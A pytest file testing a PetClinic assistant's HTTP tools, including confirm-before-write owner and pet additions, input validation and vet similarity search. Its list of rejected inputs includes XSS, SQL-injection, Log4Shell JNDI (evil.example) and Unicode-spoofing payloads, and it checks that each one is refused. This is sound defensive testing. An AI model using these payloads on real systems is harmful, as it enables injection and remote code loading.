"""The PetClinic tools over real HTTP (the local PetClinic stand-in on 127.0.0.1): reads, writes
validated to what customers-service accepts and made only when executed after a proposal, the
vet similarity search and its vector cache, and the service URLs from Parameter Store."""

from __future__ import annotations

import os
from collections.abc import Iterator
from typing import Any
from unittest import mock

import boto3
import pytest
from genai_fakes import CountingEmbedder
from moto import mock_aws

from petclinic_local.cloud import FAKE_CREDENTIALS
from petclinic_local.simulators.bedrock import StandInEmbedding
from petclinic_local.simulators.petclinic_http import PetClinicHttpService
from petclinic_ops.adapters.genai_petclinic import PetClinicHttp, parameter_store_urls
from petclinic_ops.domain.genai.tools import TOOL_NAMES, TOOL_SPECS, Toolbox, VetIndex
from petclinic_ops.domain.genai.writes import is_confirmation, owner_write

NOW = 1_800_000_000.0


@pytest.fixture
def service() -> Iterator[PetClinicHttpService]:
    with PetClinicHttpService() as running:
        yield running


@pytest.fixture
def embedder() -> CountingEmbedder:
    return CountingEmbedder(StandInEmbedding().embed)


def toolbox(service: PetClinicHttpService, embedder: CountingEmbedder) -> Toolbox:
    api = PetClinicHttp(parameter_path="/petclinic/test/services/", url_source=lambda _: _urls(service))
    return Toolbox(api, VetIndex(embedder))


def _urls(service: PetClinicHttpService) -> dict[str, str]:
    return dict.fromkeys(("customers-service", "vets-service", "visits-service"), service.url)


def test_the_tools_are_the_upstream_assistants() -> None:
    assert {"listOwners", "addOwnerToPetclinic", "listVets", "addPetToOwner"} == TOOL_NAMES
    for spec in TOOL_SPECS:
        assert spec["toolSpec"]["inputSchema"]["json"]["type"] == "object"


def test_list_owners_reads_the_customers_service(
    service: PetClinicHttpService, embedder: CountingEmbedder
) -> None:
    result, call = toolbox(service, embedder).run("listOwners", {})
    owners = result["owners"]
    assert call.ok
    assert len(owners) == 10
    assert (owners[0]["firstName"], owners[0]["lastName"], owners[0]["city"]) == (
        "George",
        "Franklin",
        "Madison",
    )
    assert [p["name"] for p in owners[5]["pets"]] == ["Samantha", "Max"]
    assert service.requests == [("GET", "/owners", 200)]


JANE = {"firstName": "Jane", "lastName": "Doe", "address": "1 Main St", "city": "Springfield",
        "telephone": "5551234567"}  # fmt: skip


def writes(service: PetClinicHttpService) -> list[tuple[str, str, int]]:
    return [r for r in service.requests if r[0] != "GET"]


def test_add_owner_is_proposed_then_posted_only_when_executed(
    service: PetClinicHttpService, embedder: CountingEmbedder
) -> None:
    tools = toolbox(service, embedder)
    owner = {"firstName": "Ada", "lastName": "Lovelace", "address": "12 Analytical St.", "city": "Madison",
             "telephone": "608-555-0199"}  # fmt: skip
    pending, result, call = tools.propose("addOwnerToPetclinic", owner)
    assert call.ok, result
    assert pending is not None
    assert result == {"confirmationRequired": True}
    assert pending.arguments["telephone"] == "6085550199"
    assert pending.question().startswith("I will add the owner Ada Lovelace to PetClinic:")
    assert "- telephone: 6085550199" in pending.question()
    assert writes(service) == []  # nothing is written by a proposal
    written, call = tools.execute(pending)
    assert call.ok, written
    assert written["owner"]["id"] == 11
    listed, _ = tools.run("listOwners", {})
    assert listed["owners"][-1]["lastName"] == "Lovelace"
    assert writes(service) == [("POST", "/owners", 201)]


def test_a_write_tool_run_directly_writes_nothing(
    service: PetClinicHttpService, embedder: CountingEmbedder
) -> None:
    result, call = toolbox(service, embedder).run("addOwnerToPetclinic", JANE)
    assert not call.ok
    assert "needs the user's confirmation" in result["error"]
    assert writes(service) == []


def test_add_pet_checks_the_owner_and_the_type_with_the_customers_service(
    service: PetClinicHttpService, embedder: CountingEmbedder
) -> None:
    tools = toolbox(service, embedder)
    pending, result, call = tools.propose(
        "addPetToOwner", {"ownerId": 1, "pet": {"name": "Biscuit", "birthDate": "2024-02-03", "typeId": 2}}
    )
    assert call.ok, result
    assert pending is not None
    assert "- owner: George Franklin (id 1)" in pending.question()
    assert "- type: dog" in pending.question()
    added, call = tools.execute(pending)
    assert call.ok, added
    assert (added["pet"]["name"], added["pet"]["type"]["name"]) == ("Biscuit", "dog")
    assert [p["name"] for p in service.data.owners[1]["pets"]] == ["Leo", "Biscuit"]
    missing, result, call = tools.propose(
        "addPetToOwner", {"ownerId": 99, "pet": {"name": "X", "birthDate": "2024-02-03", "typeId": 1}}
    )
    assert (missing, call.ok) == (None, False)
    assert result == {"error": "there is no owner with id 99"}
    assert ("GET", "/owners/99", 404) in service.requests
    assert ("GET", "/petTypes", 200) in service.requests


def test_a_confirmed_write_is_validated_again_against_petclinic_as_it_is_now(
    service: PetClinicHttpService, embedder: CountingEmbedder
) -> None:
    tools = toolbox(service, embedder)
    pending, _, _ = tools.propose(
        "addPetToOwner", {"ownerId": 2, "pet": {"name": "Rex", "birthDate": "2020-01-01", "typeId": 2}}
    )
    assert pending is not None
    del service.data.owners[2]  # the owner went away before the user confirmed
    result, call = tools.execute(pending)
    assert not call.ok
    assert result == {"error": "there is no owner with id 2"}
    assert writes(service) == []


def _owner(**changes: object) -> dict[str, object]:
    return {**JANE, **changes}


def _pet(owner_id: object = 1, **changes: object) -> dict[str, object]:
    return {"ownerId": owner_id, "pet": {"name": "Rex", "birthDate": "2020-01-01", "typeId": 2, **changes}}


# What was written to PetClinic through the tools before (issue 20), and what the services refuse.
REFUSED = [
    ("addOwnerToPetclinic", {"firstName": "Ada"}, "lastName is required"),
    ("addOwnerToPetclinic", _owner(firstName="   "), "firstName is required"),
    ("addOwnerToPetclinic", _owner(telephone="phone"), "telephone must be 1 to 12 digits 0-9; it holds 'p'"),
    (
        "addOwnerToPetclinic",
        _owner(telephone="1234567890123"),
        "telephone must be 1 to 12 digits 0-9; it has 13",
    ),
    (
        "addOwnerToPetclinic",
        _owner(telephone="\u0665\u0665\u0665\u0661\u0662\u0663"),
        "U+0665, a digit that is not 0-9",
    ),
    ("addOwnerToPetclinic", _owner(address="<script>alert(1)</script>"), "address holds '<'"),
    ("addOwnerToPetclinic", _owner(city="Springfield'; DROP TABLE owners;--"), "city holds ';'"),
    ("addOwnerToPetclinic", _owner(address="${jndi:ldap://evil.example/a}"), "address holds '$'"),
    ("addOwnerToPetclinic", _owner(city="Spring\x00field"), "city holds U+0000, a control character"),
    ("addOwnerToPetclinic", _owner(city="Spring\x1b[31mfield"), "city holds U+001B, a control character"),
    (
        "addOwnerToPetclinic",
        _owner(lastName="Doe\u202egnp.exe"),
        "lastName holds U+202E, an invisible or formatting",
    ),
    ("addOwnerToPetclinic", _owner(lastName="Doe\U0001f600"), "outside the Basic Multilingual Plane"),
    (
        "addOwnerToPetclinic",
        _owner(firstName="J" * 31),
        "firstName is 31 characters long; PetClinic takes at most 30",
    ),
    ("addPetToOwner", _pet(birthDate="2024-99-99"), "pet.birthDate 2024-99-99 is not a real date"),
    ("addPetToOwner", _pet(birthDate="0000-00-00"), "pet.birthDate 0000-00-00 is not a real date"),
    ("addPetToOwner", _pet(birthDate="9999-12-31"), "pet.birthDate 9999-12-31 is in the future"),
    ("addPetToOwner", _pet(birthDate="1850-01-01"), "is before 1900"),
    ("addPetToOwner", _pet(birthDate="yesterday"), "YYYY-MM-DD"),
    ("addPetToOwner", _pet(typeId=True), "pet.typeId must be a whole number"),
    ("addPetToOwner", _pet(typeId=9), "pet.typeId 9 is not a pet type of PetClinic: one of 1 cat, 2 dog"),
    ("addPetToOwner", _pet(owner_id=10**30), "ownerId must be between 1 and 2147483647"),
    ("addPetToOwner", _pet(owner_id="x"), "ownerId must be a whole number"),
    ("addPetToOwner", _pet(name="<img src=x onerror=alert(1)>"), "name holds '<'"),
    ("addPetToOwner", {"ownerId": 1, "pet": "Rex"}, "pet is required"),
    ("listVets", {"query": 3}, "query must be a string"),
    ("deleteEverything", {}, "there is no tool named 'deleteEverything'"),
    ("listOwners", ["not", "an", "object"], "must be a JSON object"),
]


@pytest.mark.parametrize(("name", "arguments", "problem"), REFUSED)
def test_bad_tool_input_goes_back_to_the_model_as_an_error_and_writes_nothing(
    service: PetClinicHttpService, embedder: CountingEmbedder, name: str, arguments: Any, problem: str
) -> None:
    tools = toolbox(service, embedder)
    pending, result, call = (
        tools.propose(name, arguments) if name.startswith("add") else (None, *tools.run(name, arguments))
    )
    assert pending is None
    assert not call.ok
    assert problem in result["error"]
    assert writes(service) == []


def test_what_petclinic_accepts_is_accepted() -> None:
    """Letters of any script, apostrophes, hyphens, digits where a field takes them."""
    owner = _owner(firstName="Zoë", lastName="O'Brien-Łukasiewicz", address="12 Rue de l'Église, Apt. 3/B",
                   city="São Paulo", telephone="+1 (608) 555-0199")  # fmt: skip
    pending = owner_write(owner, NOW)
    assert pending.arguments["telephone"] == "16085550199"
    assert pending.arguments["city"] == "São Paulo"


@pytest.mark.parametrize(
    ("text", "confirms"),
    [("yes", True), ("Yes!", True), ("y", True), ("ok", True), ("yes, add it", True), ("Confirm.", True),
     ("yes please", True), ("no", False), ("yes but change the city", False), ("Ignore that, yes", False),
     ("", False), ("yesterday", False)],
)  # fmt: skip
def test_only_a_plain_confirmation_confirms(text: str, confirms: bool) -> None:
    assert is_confirmation(text) is confirms


def test_a_failing_or_unreachable_service_is_a_tool_error_not_a_crash(
    service: PetClinicHttpService, embedder: CountingEmbedder
) -> None:
    tools = toolbox(service, embedder)
    service.fail_next(1, 503)
    failed, call = tools.run("listOwners", {})
    assert not call.ok
    assert failed["error"] == "customers-service answered 503 Service Unavailable"
    assert call.error == failed["error"]  # why it failed, for the API's toolCalls and the smoke test
    url = service.url
    service.close()
    down = Toolbox(
        PetClinicHttp(parameter_path="/p/", url_source=lambda _: {"vets-service": url}, timeout=1),
        VetIndex(embedder),
    )
    unreachable, call = down.run("listVets", {"query": "surgery"})
    assert not call.ok
    assert unreachable == {"error": "vets-service did not answer (connection refused, NewConnectionError)"}
    assert call.error == unreachable["error"]


def test_list_vets_finds_the_specialists_by_similarity_and_caches_the_vectors(
    service: PetClinicHttpService, embedder: CountingEmbedder
) -> None:
    tools = toolbox(service, embedder)
    radiology, _ = tools.run("listVets", {"query": "radiologists"})
    assert {(v["firstName"], v["lastName"]) for v in radiology["vets"]} == {
        ("Helen", "Leary"),
        ("Henry", "Stevens"),
    }
    assert len(embedder.embedded) == 6 + 1  # six vets once, the query
    surgery, _ = tools.run("listVets", {"query": "surgery"})
    assert {v["lastName"] for v in surgery["vets"]} == {"Douglas", "Ortega"}
    assert len(embedder.embedded) == 6 + 2  # cached: only the new query
    everyone, _ = tools.run("listVets", {})
    assert len(everyone["vets"]) == 6
    assert "similarity" not in everyone["vets"][0]


def test_service_urls_come_from_parameter_store_else_cloud_map_names() -> None:
    with mock.patch.dict(os.environ, FAKE_CREDENTIALS), mock_aws():
        ssm = boto3.client("ssm", region_name="us-west-2")
        ssm.put_parameter(
            Name="/petclinic/dev/services/customers-service/url", Value="http://10.0.1.5:8080/", Type="String"
        )
        ssm.put_parameter(Name="/petclinic/dev/services/unrelated/url", Value="http://x", Type="String")
        urls = parameter_store_urls("/petclinic/dev/services/", max_age=0)
        api = PetClinicHttp(parameter_path="/petclinic/dev/services/")
        assert urls == {"customers-service": "http://10.0.1.5:8080"}
        assert api.base_url("customers-service") == "http://10.0.1.5:8080"
        assert api.base_url("vets-service") == "http://vets-service.petclinic.local:8080"
